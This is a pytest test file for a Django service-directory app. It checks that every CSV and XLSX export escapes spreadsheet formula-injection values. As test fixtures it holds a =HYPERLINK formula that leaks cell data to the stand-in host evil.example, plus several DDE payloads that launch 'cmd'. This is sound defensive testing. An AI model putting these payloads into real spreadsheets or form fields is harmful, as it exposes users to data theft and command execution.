"""No export hands a spreadsheet a formula: every CSV and XLSX writer neutralises them.

One hostile value per text field a stranger can reach (a service name, a description, a
practice title, an audited e-mail address) goes through every CSV and XLSX export; the
files are read back as a spreadsheet would and no cell may be a formula. Phone numbers and
plain numbers stay as they are.
"""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from conftest import verified_login
from ruta.audit.actions import record
from ruta.directory.tests.factories import make_service
from ruta.lib.sheets import FORMULA_STARTS, is_formula_like, safe_text, unescape
from ruta.pathways.tests.test_pathways import make_pathway, mark
from ruta.practices.tests.factories import make_practice

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Ver")'
PAYLOADS = (HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|'/C x'!A0")
PHONE = "+51 900 000 000"


@pytest.fixture
def hostile(world: Any) -> dict[str, Any]:
    service = make_service(
        world.care,
        HYPERLINK,
        terms=("psychosocial_support", "women"),
        area="PE-LMA",
        phones=((PHONE, True),),
        description_es=PAYLOADS[1],
        eligibility_es=PAYLOADS[2],
    )
    pathway = make_pathway()
    mark(pathway, world.care, "women", 1, service)
    practice = make_practice(world, "BP_FORMULA", status="published", title_es=PAYLOADS[3])
    record("user.invited", actor=world.user("admin"), details={"role": PAYLOADS[0]})
    return {"service": service, "pathway": pathway, "practice": practice}


def _xlsx_cells(content: bytes) -> list[Any]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    book = load_workbook(io.BytesIO(content))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                cells.append(cell.value)
    return cells


def _csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _body(response: Any) -> bytes:
    assert response.status_code == 200, response.status_code
    if response.streaming:
        return b"".join(response.streaming_content)
    return bytes(response.content)


def _audit_csv(admin: Any) -> bytes:
    """The audit CSV is a secure export: asked for, then downloaded from My exports."""
    from ruta.exports.models import SecureExport

    admin.post(reverse("exports:audit_csv"))
    export = SecureExport.objects.filter(kind="audit_csv").latest("id")
    return _body(admin.get(reverse("exports:download", args=[export.uuid])))


def _exports(world: Any, hostile: dict[str, Any]) -> dict[str, tuple[str, bytes]]:
    anonymous = Client()
    admin = verified_login(Client(), world.user("admin"))
    staff = verified_login(Client(), world.user("coordinator"))
    pathway = hostile["pathway"]
    found = {
        "pathway xlsx": (
            "xlsx",
            _body(anonymous.get(reverse("pathways:xlsx", args=[pathway.uuid]))),
        ),
        "practices xlsx": ("xlsx", _body(anonymous.get(reverse("practices:export_xlsx")))),
        "3W csv": ("csv", _body(anonymous.get(reverse("reports:hxl_csv")))),
        "3W xlsx": ("xlsx", _body(anonymous.get(reverse("reports:hxl_xlsx")))),
        "coverage csv": ("csv", _body(staff.get(reverse("reports:coverage_csv")))),
        "coverage xlsx": ("xlsx", _body(staff.get(reverse("reports:coverage_xlsx")))),
        "coverage long csv": ("csv", _body(staff.get(reverse("reports:coverage_long_csv")))),
        "coverage long xlsx": (
            "xlsx",
            _body(staff.get(reverse("reports:coverage_long_xlsx"))),
        ),
        "audit csv": ("csv", _audit_csv(admin)),
    }
    with zipfile.ZipFile(io.BytesIO(_body(anonymous.get(reverse("hsds:export"))))) as archive:
        for name in archive.namelist():
            if name.endswith(".csv"):
                found[f"HSDS {name}"] = ("csv", archive.read(name))
    return found


def test_no_export_carries_a_live_formula(world: Any, hostile: dict[str, Any]) -> None:
    exports = _exports(world, hostile)
    seen: set[str] = set()
    for label, (kind, content) in exports.items():
        cells = _xlsx_cells(content) if kind == "xlsx" else _csv_cells(content)
        texts = [cell for cell in cells if isinstance(cell, str)]
        live = [cell for cell in texts if is_formula_like(cell)]
        assert live == [], f"{label} would run {live}"
        seen.update(unescape(cell) for cell in texts if cell.startswith("'"))
    # The hostile values are there, as text: neutralised, not dropped.
    assert HYPERLINK in seen
    assert any(payload in seen for payload in PAYLOADS[1:])
    # Phone numbers are not mangled.
    hxl = _csv_cells(exports["3W csv"][1])
    assert PHONE in hxl and f"'{PHONE}" not in hxl


def test_ruta_reads_its_own_neutralised_hsds_export_back(world: Any, hostile: Any) -> None:
    from ruta.directory.models import Service
    from ruta.hsds.export import export_file
    from ruta.hsds.importer import run_import

    archive, _counts = export_file()
    Service.objects.all().delete()
    result = run_import(archive.read(), "x.zip", actor=world.user("coordinator"), dry_run=False)
    assert result.valid, result.errors
    service = Service.objects.get()
    assert service.name_es == HYPERLINK
    assert service.description_es == PAYLOADS[1]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("-3.5", "-3.5"),
        ("+51 900 000 000", "+51 900 000 000"),
        ("(01) 700-0000", "(01) 700-0000"),
        ("Apoyo psicológico", "Apoyo psicológico"),
    ],
)
def test_safe_text(value: str, expected: str) -> None:
    assert value.startswith(FORMULA_STARTS) or value == expected
    assert safe_text(value) == expected
    assert unescape(safe_text(value)) == value
